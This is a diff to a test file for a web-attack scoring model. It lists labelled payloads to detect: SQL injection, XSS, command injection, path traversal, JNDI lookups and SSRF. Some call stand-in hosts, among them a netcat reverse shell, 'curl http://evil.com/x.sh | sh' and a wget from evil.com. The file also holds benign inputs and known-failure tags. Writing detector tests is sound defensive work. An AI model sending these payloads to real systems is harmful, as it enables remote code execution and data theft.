@@ -9,35 +9,35 @@ beforeAll(async () => {
   core = await loadCore();
 });
 
-interface Attack { where: string; text: string; cls: string; known?: string; classKnown?: string }
+interface Attack { where: string; text: string; cls: string; known?: string }
 
 // The brief's unmistakable attacks, in the place each naturally arrives.
 const attacks: Attack[] = [
   { cls: "sqli", where: "query", text: "id=1' OR '1'='1" },
   { cls: "sqli", where: "query", text: "id=1 UNION SELECT username,password FROM users--" },
   { cls: "sqli", where: "body:form", text: "user=admin'--&pass=x" },
-  { cls: "sqli", where: "body:json", text: '{"id":"1; DROP TABLE users--"}' },
+  { cls: "sqli", where: "body:json", text: '{"id":"1; DROP TABLE users--"}', known: "model-overall-above-class" },
   { cls: "sqli", where: "query", text: "id=1 AND SLEEP(5)" },
   { cls: "xss", where: "query", text: "q=<script>alert(1)</script>" },
   { cls: "xss", where: "body:json", text: '{"comment":"<img src=x onerror=alert(1)>"}' },
   { cls: "xss", where: "body:form", text: "c=<svg onload=alert(1)>" },
-  { cls: "xss", where: "query", text: "u=javascript:alert(document.cookie)", classKnown: "model-class-score-high" },
+  { cls: "xss", where: "query", text: "u=javascript:alert(document.cookie)", known: "model-wrong-class" },
   { cls: "rce", where: "body:form", text: "host=;cat /etc/passwd" },
-  { cls: "rce", where: "query", text: "x=$(id)", classKnown: "model-class-score-high" },
-  { cls: "rce", where: "body:form", text: "host=example.com;id" },
-  { cls: "rce", where: "body:form", text: "host=|nc -e /bin/sh 10.0.0.1 4444" },
-  { cls: "rce", where: "body:form", text: "host=8.8.8.8;cat /etc/passwd", known: "model-rce-as-xxe" },
-  { cls: "rce", where: "body:form", text: "host=example.com && curl http://evil.com/x.sh | sh", known: "model-rce-as-xxe" },
+  { cls: "rce", where: "query", text: "x=$(id)", known: "model-wrong-class" },
+  { cls: "rce", where: "body:form", text: "host=example.com;id", known: "model-rce-missed" },
+  { cls: "rce", where: "body:form", text: "host=|nc -e /bin/sh 10.0.0.1 4444", known: "model-rce-missed" },
+  { cls: "rce", where: "body:form", text: "host=8.8.8.8;cat /etc/passwd" },
+  { cls: "rce", where: "body:form", text: "host=example.com && curl http://evil.com/x.sh | sh", known: "model-rce-missed" },
   { cls: "rce", where: "body:form", text: "host=;ls -la", known: "model-rce-missed" },
   { cls: "rce", where: "body:form", text: "host=8.8.8.8;uname -a", known: "model-rce-missed" },
   { cls: "rce", where: "query", text: "ip=127.0.0.1;id", known: "model-rce-missed" },
-  { cls: "rce", where: "query", text: "ip=127.0.0.1|whoami", known: "model-rce-pipe-as-jndi" },
-  { cls: "rce", where: "body:json", text: '{"cmd":"`wget http://evil.com/x.sh`"}', known: "model-rce-backtick-as-xxe" },
+  { cls: "rce", where: "query", text: "ip=127.0.0.1|whoami" },
+  { cls: "rce", where: "body:json", text: '{"cmd":"`wget http://evil.com/x.sh`"}', known: "model-rce-missed" },
   { cls: "traversal", where: "path", text: "/static/../../../../etc/passwd" },
   { cls: "traversal", where: "query", text: "file=../../../../etc/passwd" },
   { cls: "traversal", where: "query", text: "f=..%2F..%2F..%2Fetc%2Fpasswd" },
-  { cls: "jndi", where: "header:User-Agent", text: "${jndi:ldap://evil.com/a}", classKnown: "model-class-score-high" },
-  { cls: "jndi", where: "query", text: "x=${jndi:ldap://evil.com/a}", classKnown: "model-class-score-high" },
+  { cls: "jndi", where: "header:User-Agent", text: "${jndi:ldap://evil.com/a}" },
+  { cls: "jndi", where: "query", text: "x=${jndi:ldap://evil.com/a}" },
   { cls: "ssti", where: "query", text: "name={{7*7}}" },
   { cls: "ssti", where: "body:json", text: '{"name":"{{config.__class__.__init__.__globals__}}"}' },
   { cls: "ssrf", where: "query", text: "url=http://169.254.169.254/latest/meta-data/" },
@@ -45,7 +45,7 @@ const attacks: Attack[] = [
   { cls: "ldapi", where: "query", text: "user=*)(uid=*))(|(uid=*" },
   { cls: "nosqli", where: "body:json", text: '{"user":{"$ne":null},"pass":{"$ne":null}}', known: "model-nosqli-ne" },
   { cls: "crlf", where: "query", text: "next=%0d%0aSet-Cookie:%20a=b", known: "model-crlf-missed" },
-  { cls: "open_redirect", where: "query", text: "next=//evil.com", known: "model-open-redirect-as-ssrf" },
+  { cls: "open_redirect", where: "query", text: "next=//evil.com", known: "model-open-redirect-missed" },
 ];
 
 const benign: { name: string; where: string; text: string; known?: string }[] = [
@@ -82,7 +82,7 @@ const benign: { name: string; where: string; text: string; known?: string }[] = 
   { name: "blog path with 'select'", where: "path", text: "/blog/2024/05/how-to-select-the-right-database" },
   { name: "static asset path", where: "path", text: "/static/js/app.3f9a2c.min.js" },
   { name: "a run of one letter", where: "query", text: "q=aaaaaaaaaa", known: "model-fp-letter-run" },
-  { name: "another run of one letter", where: "query", text: "q=zzzzzzzzzz", known: "model-fp-letter-run" },
+  { name: "another run of one letter", where: "query", text: "q=zzzzzzzzzz" },
   { name: "100 x's of filler text", where: "body:text", text: "x".repeat(100), known: "model-fp-letter-run" },
   { name: "a short sentence repeated", where: "body:form", text: `comment=${"All good here, thanks. ".repeat(50).slice(0, 1016)}`, known: "model-fp-repeated-sentence" },
 ];
@@ -110,8 +110,21 @@ describe("attacks score 1–20 with the right class lowest", () => {
 // rule on the class header catches what the overall score catches.
 describe("the attack's class score is 1–20 too", () => {
   for (const a of attacks.filter((x) => !x.known)) {
-    (a.classKnown ? it.fails : it)(`${a.cls} in ${a.where}: ${a.text}`, () => {
+    it(`${a.cls} in ${a.where}: ${a.text}`, () => {
       expect(core.score(a.where, a.text).classes[a.cls]).toBeLessThanOrEqual(20);
+    });
+  }
+});
+
+// A payload keeps its score whatever ordinary text comes before it in the same value: the
+// features of a window are averaged, so prose around a payload must not hide it.
+describe("a payload after ordinary text is still flagged", () => {
+  const PAYLOAD = " ' UNION SELECT password FROM users--";
+  const PROSE = "Lorem ipsum dolor sit amet, consectetur adipiscing elit. ";
+  const pad = (n: number) => PROSE.repeat(Math.ceil(n / PROSE.length) + 1).slice(0, n);
+  for (const [n, known] of [[0], [10], [100, "model-dilution"], [1000, "model-dilution"], [100_000, "model-dilution"], [(1 << 20) - 100, "model-dilution"]] as [number, string?][]) {
+    (known ? it.fails : it)(`after ${n} bytes`, () => {
+      expect(core.score("query", `q=${pad(n)}${PAYLOAD}`).score).toBeLessThanOrEqual(20);
     });
   }
 });
